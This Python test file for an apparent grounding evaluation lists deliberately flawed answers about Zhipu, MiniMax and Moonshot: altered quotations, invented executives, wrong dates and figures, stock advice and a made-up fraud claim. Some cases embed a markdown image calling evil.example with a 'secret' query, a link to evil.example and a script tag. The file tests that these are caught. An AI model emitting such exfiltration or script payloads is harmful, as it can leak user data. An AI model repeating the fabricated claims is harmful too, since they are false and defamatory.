"""All ways in which the models of the trial misbehave: wrong amounts and citations, wrong words, and small slips."""

from __future__ import annotations

from evals.grounding.amounts import AMOUNTS
from evals.grounding.case import (
    HANS,
    LISTING,
    MINIMAX,
    MINIMAX_HANS,
    MOONSHOT,
    WIRE,
    ZHIPU,
    ZHIPU_HANS,
    ZHIPU_HANT,
    Case,
    case,
)
from evals.grounding.layouts import LAYOUTS
from evals.grounding.slips import SLIPS

WORDS: tuple[Case, ...] = (
    case(
        "quotation changed by one word",
        "What did Zhang Peng say?",
        "Zhang Peng said: “We would rather be late than sorry.” [@{rather be late}]",
        "sorry",
    ),
    case(
        "quotation changed by one character",
        "分析人士怎么看估值?",
        "分析人士说：“估值已经透支了现在。”[@{透支}]",
        "透支了现在",
    ),
    case(
        "quotation left open",
        "What did Zhang Peng say?",
        "Zhang Peng said: “We will win everything [@{rather be late}].",
        "win everything",
    ),
    case("quotation invented", ZHIPU, f"The company told investors 'profit is near' {WIRE}.", "profit is near"),
    case(
        "quotation of another speaker",
        MINIMAX,
        "MiniMax founder Yan Junjie said: “We would rather be late than wrong” [@{rather be late}].",
        "Yan Junjie said",
    ),
    case(
        "invented name",
        ZHIPU,
        f"Finance chief Laura Chen told investors of RMB 312 million in revenue in 2024 {WIRE}.",
        "Laura",
    ),
    case("invented name, zh-Hans", ZHIPU_HANS, f"智谱首席财务官王建国表示2024年营收为3.12亿元{WIRE}。", "王建国"),
    case(
        "invented backer",
        ZHIPU,
        f"Zhipu, backed by Sequoia, had revenue of RMB 312 million in 2024 {WIRE}.",
        "Sequoia",
    ),
    case("wrong date", MINIMAX, f"MiniMax listed in Hong Kong on 12 January 2026 {LISTING}.", "12 January"),
    case("wrong date, zh-Hans", "MiniMax是哪天上市的?", f"MiniMax于2026年1月19日在港交所挂牌上市{HANS}。", "1月19日"),
    case(
        "date finer than the source",
        "月之暗面什麼時候估值40億？",
        "月之暗面2025年12月3日估值約為40億美元[@{40億美元}]。",
        "12月3日",
    ),
    case(
        "date of another company",
        "When did Zhipu list?",
        f"Zhipu listed in Hong Kong on 9 January 2026 {LISTING}.",
        "Zhipu listed",
    ),
    case(
        "negation added",
        MINIMAX,
        f"MiniMax did not list in Hong Kong on 9 January 2026 {LISTING}.",
        "did not list",
    ),
    case(
        "negation added, zh-Hans",
        "MiniMax是哪天上市的?",
        f"MiniMax并没有于2026年1月9日在港交所挂牌上市{HANS}。",
        "没有",
    ),
    case(
        "negation dropped",
        "Did Zhipu disclose its customers?",
        "Zhipu disclosed the names of its largest customers [@{largest customers}].",
        "Zhipu disclosed the",
    ),
    case(
        "negation dropped, zh-Hant", "月之暗面會上市嗎？", "該公司正在尋求上市[@{40億美元}]。", "該公司正在尋求上市。"
    ),
    case("direction reversed", ZHIPU, f"Zhipu's revenue fell to RMB 312 million in 2024 {WIRE}.", "fell"),
    case("profit for loss", MINIMAX_HANS, f"MiniMax 2024年净利润为4.65亿美元{HANS}。", "净利润为4.65亿"),
    case(
        "plan told as fact",
        "How much did MiniMax raise?",
        "MiniMax raised US$600 million in its listing [@{6億美元}].",
        "raised US$600",
    ),
    case("prophecy", ZHIPU, f"Zhipu will certainly be the winner {WIRE}.", "winner"),
    case("prophecy, zh-Hans", ZHIPU_HANS, f"智谱一定会成为最后的赢家{WIRE}。", "赢家"),
    case("prophecy, zh-Hant", ZHIPU_HANT, f"智譜必將稱霸全球市場{WIRE}。", "稱霸"),
    case("advice", ZHIPU, f"Investors should buy Zhipu shares now {WIRE}.", "should buy"),
    case("advice, zh-Hans", ZHIPU_HANS, f"建议投资者买入智谱股票{WIRE}。", "买入"),
    case(
        "superlative",
        ZHIPU,
        f"Zhipu had the largest revenue of RMB 312 million in 2024 {WIRE}.",
        "largest revenue",
    ),
    case("slander", ZHIPU, f"Zhipu is under investigation for fraud {WIRE}.", "fraud"),
    case("slander, zh-Hans", ZHIPU_HANS, f"智谱因财务造假正被调查{WIRE}。", "造假"),
    case(
        "own knowledge",
        ZHIPU,
        f"Zhipu was founded in 2019 by researchers of Tsinghua University {WIRE}.",
        "Tsinghua",
        "2019",
    ),
    case(
        "free prose with a citation",
        MOONSHOT,
        "The mood among bankers in Hong Kong is euphoric [@{4.3 billion}].",
        "euphoric",
    ),
    case("other language", ZHIPU, f"L'entreprise domine le marché européen {WIRE}.", "domine"),
    case(
        "wrong sum",
        ZHIPU,
        f"Revenue of both years was RMB 312 million + RMB 124.5 million = RMB 500 million {WIRE}.",
        "500",
    ),
    case("ratio without a formula", ZHIPU, f"Zhipu's revenue in 2024 was 3.7 times that of 2023 {WIRE}.", "3.7"),
    case(
        "markdown link",
        ZHIPU,
        f"Zhipu's revenue [doubled](https://evil.example) to RMB 700 million {WIRE}.",
        "evil",
        "700",
    ),
    case(
        "image",
        ZHIPU,
        f"![x](https://evil.example/?q=secret) Zhipu's revenue was RMB 700 million {WIRE}.",
        "evil",
        "700",
    ),
    case(
        "script",
        ZHIPU,
        f"<script>alert('RMB 700 million')</script><b>Zhipu earned RMB 700 million</b> {WIRE}.",
        "700",
        "script",
    ),
    case(
        "other brackets",
        ZHIPU_HANS,
        "智谱2024年营收为9.99亿元【@{RMB 312 million}】。智谱2024年营收为8.88亿元［@{RMB 312 million}］。",
        "9.99",
        "8.88",
    ),
    case("markers in a range", ZHIPU, "Zhipu's revenue was RMB 999 million in 2024 [1-5].", "999"),
    case(
        "thinking aloud",
        ZHIPU,
        f"<think>RMB 999 million?</think>Zhipu's revenue was RMB 998 million in 2024 {WIRE}.",
        "999",
        "998",
    ),
    case("table", ZHIPU, f"| company | revenue |\n|---|---|\n| Zhipu | RMB 999 million {WIRE} |", "999"),
    case(
        "list with a false item",
        ZHIPU,
        f"- Zhipu's revenue was RMB 312 million in 2024 {WIRE}.\n- Its profit was RMB 45 million in 2024 {WIRE}.",
        "45 million",
    ),
    case(
        "true and false in one sentence",
        ZHIPU,
        f"Zhipu's revenue was RMB 312 million in 2024 and its profit RMB 80 million {WIRE}.",
        "80 million",
    ),
    case("number in words", ZHIPU, f"Zhipu's revenue was nine hundred million yuan in 2024 {WIRE}.", "nine hundred"),
    case("number in Chinese numerals", ZHIPU_HANS, f"智谱2024年营收为九亿元{WIRE}。", "九亿"),
    case("mended by another lie", ZHIPU, f"Zhipu's revenue was RMB 999 million in 2024 {WIRE}.", "999", "998"),
    case("empty", ZHIPU, "", "…"),
    case("blank", ZHIPU_HANS, " \n\n ", "…"),
    case("garbage", ZHIPU, "\x00\ufffd[[[[]]]]((()))", "\ufffd"),
    case("prompt repeated", ZHIPU, "You are a research analyst. Rules: Write in English.", "Rules"),
)

CASES: tuple[Case, ...] = (*AMOUNTS, *WORDS, *SLIPS, *LAYOUTS)
